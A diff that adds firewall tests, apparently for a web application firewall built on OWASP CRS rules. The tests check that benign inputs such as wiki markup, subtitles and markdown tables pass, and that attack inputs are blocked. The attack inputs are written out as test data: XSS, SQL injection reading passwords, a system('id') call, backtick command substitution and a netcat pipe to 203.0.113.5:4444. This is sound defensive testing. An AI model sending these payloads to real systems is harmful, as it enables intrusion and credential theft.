@@ -275,3 +275,63 @@ def test_exact_phrase_search(gatehouse, origin, port):
     # the same phrase in a parameter that is not a search box: the CRS as shipped
     assert send(port, "GET", "/items?" + urlencode({"sku": '"select comfort"'})).status == 403
     assert origin.stats.heads == hits
+
+
+# D20-D23: CRS rules as the CRS later fixed them, and ModSecurity 2's
+# start-of-value anchor (tests/waf/default-exclusions.md, "Fifth round").
+# Each benign shape is refused by CRS 3.3.4 PL1 as shipped (the last test)
+# and, but for the markdown table (90034, D10's own rule), sits in a field
+# outside the free-text family.
+
+WIKI = "== Week one ==\nIntro and setup.\n\n== Week two ==\nVersion control."
+VTT = "WEBVTT\n\n00:00:01.000 --> 00:00:03.500\nWhere is the station?\n"
+BEACON = "/matomo.php?idsite=3&rec=1&" + urlencode({"action_name": 'Search results for "union jack cushion"'})
+STEPS = "1. Open settings\n2. Select 'Notifications'\n3. Turn off e-mail"
+TABLE = "Prices below.\n\n| size | price |\n|---|---|\n| S | 9 |"
+
+
+SHAPES = {   # default: (method, target, headers, body)
+    "D20 wiki heading": ("POST", "/wiki/edit", FORM, form(wpTextbox1=WIKI)),
+    "D21 subtitles": ("POST", "/api/captions", JSON, json.dumps({"vtt": VTT}).encode()),
+    "D22 quoted page title": ("GET", BEACON, (), b""),
+    "D23 numbered steps": ("POST", "/support/tickets", FORM, form(steps=STEPS)),
+    "D23 markdown table": ("POST", "/api/posts", JSON, json.dumps({"content": TABLE}).encode()),
+}
+
+
+@pytest.mark.parametrize("shape", sorted(SHAPES))
+def test_shape_passes(gatehouse, origin, port, shape):
+    g = start(gatehouse, port, origin)
+    method, target, headers, body = SHAPES[shape]
+    assert send(port, method, target, headers, body).status == 200, g.stderr_tail()
+
+
+def test_crs_fixed_rules_keep_refusing(gatehouse, origin, port):
+    g = start(gatehouse, port, origin)
+    for body, rule in ((form(wpTextbox1='" autofocus onfocus=alert(1) x="'), "90043"),
+                       (form(wpTextbox1="<!--<img src=x>"), "90044"),
+                       (form(wpTextbox1="x\" union all select password from users-- "), "90045"),
+                       (form(wpTextbox1="(system)('id')"), "933210")):
+        assert send(port, "POST", "/wiki/edit", FORM, body).status == 403, body
+        assert blocked_by(g, rule), (rule, g.stderr_tail())
+    assert untouched(origin)
+
+
+def test_value_starts_still_count(gatehouse, origin, port):
+    g = start(gatehouse, port, origin)
+    # the start of the value still counts, and a backtick at any line start
+    for body, rule in ((form(steps="1; select password from users"), "90046"),
+                       (form(content="| nc 203.0.113.5 4444"), "90034"),
+                       (form(content="intro\n`id`"), "90034")):
+        assert send(port, "POST", "/api/posts", FORM, body).status == 403, body
+        assert blocked_by(g, rule), (rule, g.stderr_tail())
+    assert untouched(origin)
+
+
+def test_defaults_off_refuses_line_starts_and_crs_fixed_shapes(gatehouse, origin, port):
+    start(gatehouse, port, origin, waf="defaults off")
+    for shape, (method, target, headers, body) in sorted(SHAPES.items()):
+        if shape == "D23 markdown table":
+            continue        # 90034 is gatehouse's own: the CRS passes the table
+        assert send(port, method, target, headers, body).status == 403, shape
+    assert untouched(origin)
